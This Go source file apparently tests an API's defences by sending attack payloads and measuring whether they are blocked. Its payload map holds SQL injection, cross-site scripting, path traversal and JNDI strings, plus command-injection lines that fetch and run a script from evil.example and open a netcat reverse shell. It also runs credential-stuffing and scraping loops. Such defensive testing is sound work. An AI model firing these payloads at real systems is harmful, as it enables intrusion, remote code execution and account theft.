package traffic

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/url"

	"github.com/google/uuid"
)

// An Attack is one attempt, and what became of it.
type Attack struct {
	Kind, Request string
	Status        int // of the answer
}

// Blocked reports whether something stood in the way: the firewall, a limit, or
// that the request made no sense to the API.
func (a Attack) Blocked() bool { return a.Status >= 400 && a.Status < 500 }

// What is put where a value belongs.
var payloads = map[string][]string{
	"SQL injection": {
		`' OR '1'='1' -- `, `1; DROP TABLE users; --`, `' UNION SELECT email, password FROM users --`,
		`1' AND (SELECT pg_sleep(5)) IS NULL --`, `admin'/**/OR/**/1=1#`,
	},
	"cross-site scripting": {
		`<script>alert(document.cookie)</script>`, `<img src=x onerror=alert(1)>`, `"><svg/onload=fetch('//evil.example')>`,
		`<iframe src="javascript:alert(1)">`,
	},
	"path traversal": {`../../../../etc/passwd`, `..%2f..%2f..%2fetc%2fshadow`, `/proc/self/environ`},
	"command injection": {
		`; cat /etc/passwd`, `$(curl http://evil.example/x.sh | sh)`, "`id`; uname -a", `| nc -e /bin/sh evil.example 4444`,
	},
	"server-side template": {`${jndi:ldap://evil.example/a}`},
}

// inHeaders are the kinds that services behind a gateway fall for when they log
// a header or show it.
var inHeaders = map[string]bool{"SQL injection": true, "cross-site scripting": true, "server-side template": true}

// Injections tries every payload in a query and in a body, and some in a
// header, with a login that is allowed to do all three.
func Injections(ctx context.Context, c Client) ([]Attack, error) {
	company, err := join(ctx, c, "company", "Mallory Inc")
	if err != nil {
		return nil, err
	}
	var attacks []Attack
	try := func(kind, where, method, path string, body any, headers ...string) error {
		status, err := outcome(company.Do(ctx, method, path, body, nil, headers...))
		attacks = append(attacks, Attack{kind, where, status})
		return err
	}
	for kind, values := range payloads {
		for _, v := range values {
			content := object{"title": v, "description": v, "location": "Köln", "weeks": 1, "places": 1}
			err := errors.Join(
				try(kind, "query: "+v, http.MethodGet, "/v1/offers?text="+url.QueryEscape(v), nil),
				try(kind, "body: "+v, http.MethodPost, "/v1/offers", content, "Idempotency-Key", uuid.NewString()))
			if inHeaders[kind] {
				err = errors.Join(err, try(kind, "header: "+v, http.MethodGet, "/v1/offers", nil, "User-Agent", v))
			}
			if err != nil {
				return attacks, err
			}
		}
	}
	return attacks, nil
}

// Stuffing tries many passwords for one account.
func Stuffing(ctx context.Context, c Client, tries int) ([]Attack, error) {
	victim, err := join(ctx, c, "student", "Victor")
	if err != nil {
		return nil, err
	}
	var attacks []Attack
	for i := range tries {
		err := c.Do(ctx, http.MethodPost, "/v1/logins", object{"email": victim.email, "password": fmt.Sprintf("password-%06d", i)}, nil)
		if Code(err) == 0 {
			return attacks, fmt.Errorf("login with a wrong password: %w", err)
		}
		attacks = append(attacks, Attack{"credential stuffing", victim.email, Code(err)})
	}
	return attacks, nil
}

// Scraping reads pages as fast as it can.
func Scraping(ctx context.Context, c Client, pages int) ([]Attack, error) {
	student, err := join(ctx, c, "student", "Sam")
	if err != nil {
		return nil, err
	}
	var attacks []Attack
	for range pages {
		status, err := outcome(student.Do(ctx, http.MethodGet, "/v1/offers?pageSize=100", nil, nil))
		if err != nil {
			return attacks, err
		}
		attacks = append(attacks, Attack{"scraping", "/v1/offers", status})
	}
	return attacks, nil
}

// outcome returns the status of an answer; an error if there was none.
func outcome(err error) (int, error) {
	switch code := Code(err); {
	case err == nil:
		return http.StatusOK, nil
	case code != 0:
		return code, nil
	}
	return 0, err
}
